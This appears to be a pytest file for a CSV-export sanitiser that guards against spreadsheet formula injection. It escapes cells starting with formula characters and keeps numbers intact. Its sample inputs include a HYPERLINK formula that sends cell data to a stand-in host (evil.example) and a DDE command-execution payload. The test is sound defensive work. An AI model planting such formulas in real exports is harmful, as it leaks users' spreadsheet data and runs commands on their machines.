"""CSV exports cannot start a formula in a spreadsheet (OWASP CSV injection), numbers stay."""
from __future__ import annotations

import io

import numpy as np
import pandas as pd

from core.textsafe import FORMULA_START, safe_cell, spreadsheet_safe

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3",
           "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def test_every_formula_start_is_quoted_and_plain_text_is_not():
    for text in HOSTILE:
        assert safe_cell(text) == "'" + text
    assert {t[0] for t in HOSTILE} == set(FORMULA_START)
    for text in ["Edema", "a=b", " =x", "'=already quoted", "", "Ödem, 肺"]:
        assert safe_cell(text) == text
    for value in [-0.5, -3, np.float32(-1.5), True, None]:
        assert safe_cell(value) is value


def test_frame_round_trip_keeps_numbers_and_escapes_text_and_headers():
    df = pd.DataFrame({
        "reader": ["=evil()", "Dr. Ann", "@me"],
        "comment": ["-5 is fine?", "+ok", "plain, with comma"],
        "delta_ap": [-0.12, 0.0, -3.5],                 # negative numbers stay numbers
        "n": np.array([-1, 2, 3], dtype=np.int64),
        "mixed": pd.Series(["=x", -2.0, None], dtype=object),
        "cat": pd.Categorical(["=a", "b", "=a"]),
        "=class": [1, 2, 3],
    })
    before = df.copy()
    safe = spreadsheet_safe(df)
    pd.testing.assert_frame_equal(df, before)           # the input is not changed
    back = pd.read_csv(io.StringIO(safe.to_csv(index=False)))
    assert list(back.columns) == ["reader", "comment", "delta_ap", "n", "mixed", "cat",
                                  "'=class"]
    assert list(back["reader"]) == ["'=evil()", "Dr. Ann", "'@me"]
    assert list(back["comment"]) == ["'-5 is fine?", "'+ok", "plain, with comma"]
    assert back["delta_ap"].dtype == np.float64 and list(back["delta_ap"]) == [-0.12, 0, -3.5]
    assert back["n"].dtype == np.int64 and list(back["n"]) == [-1, 2, 3]
    assert list(back["mixed"][:2]) == ["'=x", "-2.0"] and pd.isna(back["mixed"][2])
    assert list(back["cat"]) == ["'=a", "b", "'=a"]
    # no cell of the written file starts a formula
    text = safe.to_csv(index=False)
    cells = [c.strip('"') for line in text.splitlines() for c in line.split(",")]
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
